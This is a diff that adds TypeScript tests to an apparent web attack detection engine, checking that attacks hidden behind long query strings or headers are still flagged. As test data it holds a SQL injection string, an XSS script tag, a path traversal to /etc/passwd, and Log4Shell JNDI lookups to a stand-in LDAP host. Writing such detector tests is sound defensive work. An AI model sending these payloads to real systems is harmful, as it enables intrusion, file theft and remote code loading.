@@ -22,6 +22,46 @@ test('an attack is found through its encoding, and the match says where and how'
   });
 });
 
+const WORDS = 'the+quick+brown+fox+';
+const paddings = [
+  ['parameters', `/shop?${Array.from({ length: 1_000 }, (_, n) => `p${n}=${n}`).join('&')}`],
+  ['the same parameter', `/shop?${'a&'.repeat(1_000).slice(0, -1)}`],
+  ['empty parameters', `/shop?${'&'.repeat(1_000)}a`],
+  ['parameters of a table', `/shop?${Array.from({ length: 400 }, (_, n) => `columns%5B${n}%5D[data]=${n}`).join('&')}`],
+  ['short parameters with escapes', `/shop?${Array.from({ length: 400 }, (_, n) => `p${n}=%20`).join('&')}`],
+  ['a long value', `/shop?q=${WORDS.repeat(420)}`],
+  ['a very long value', `/shop?q=${WORDS.repeat(2_000)}`],
+] as const;
+const payloads = [
+  ["id=1'+or+1=1--+-", 'SQL_INJECTION'],
+  ['id=<script>alert(1)</script>', 'XSS'],
+  ['f=../../../../etc/passwd', 'PATH_TRAVERSAL'],
+] as const;
+
+test.each(paddings.flatMap(([what, padding]) => payloads.map((payload) => [what, padding, ...payload] as const)))(
+  'an attack is found behind padding: %s',
+  (_what, padding, payload, attack) => {
+    const request = requestOf({ target: `${padding}&${payload}` });
+    expect(engine.conclude(request, engine.inspect(request))).toMatchObject({
+      severity: 'HIGH',
+      classes: expect.arrayContaining([attack]),
+    });
+    const harmless = requestOf({ target: padding });
+    expect(engine.conclude(harmless, engine.inspect(harmless)).severity).toBe('LOW');
+  },
+);
+
+test.each([
+  ['agent', { userAgent: `Mozilla/5.0 ${'compatible; '.repeat(500)} \${jndi:ldap://host.example/a}` }],
+  ['referer', { referer: `https://www.example.com/?q=${WORDS.repeat(300)}&a=\${jndi:ldap://host.example/a}` }],
+])('an attack is found at the end of a long %s', (_field, part) => {
+  const request = requestOf(part);
+  expect(engine.conclude(request, engine.inspect(request))).toMatchObject({
+    severity: 'HIGH',
+    classes: expect.arrayContaining(['LOG4SHELL']),
+  });
+});
+
 const attacking = { rule: 'ATTACKING_CLIENT', class: 'RECONNAISSANCE', score: 0.5, excerpt: '9 attacks' };
 const guessing = { rule: 'LOGIN_BRUTE_FORCE', class: 'BRUTE_FORCE', score: 0.6, excerpt: '40 login attempts' };
 
